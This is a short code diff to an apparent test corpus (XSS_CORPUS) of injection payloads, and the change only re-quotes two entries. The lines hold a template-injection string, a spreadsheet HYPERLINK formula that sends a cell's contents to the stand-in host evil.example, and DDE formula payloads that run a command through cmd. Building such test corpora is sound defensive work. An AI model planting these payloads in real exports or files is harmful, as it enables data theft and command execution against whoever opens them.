@@ -21,8 +21,8 @@ const entries: [string, string][] = [
   ['template injection', "{{constructor.constructor('window.__xss=1')()}} ${window.__xss=1} #{7*7}"],
   ['csv formula equals', '=HYPERLINK("http://evil.example/?x="&A1,"ok")'],
   ['csv formula plus', "+cmd|' /C calc'!A0"],
-  ['csv formula minus', '-2+3+cmd|\' /C calc\'!A0'],
-  ['csv formula at', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+  ['csv formula minus', "-2+3+cmd|' /C calc'!A0"],
+  ['csv formula at', "@SUM(1+1)*cmd|' /C calc'!A0"],
 ];
 
 export const XSS_CORPUS: XssPayload[] = entries.map(([kind, text], i) => ({ kind, text: `${text} [xss${i + 1}]` }));
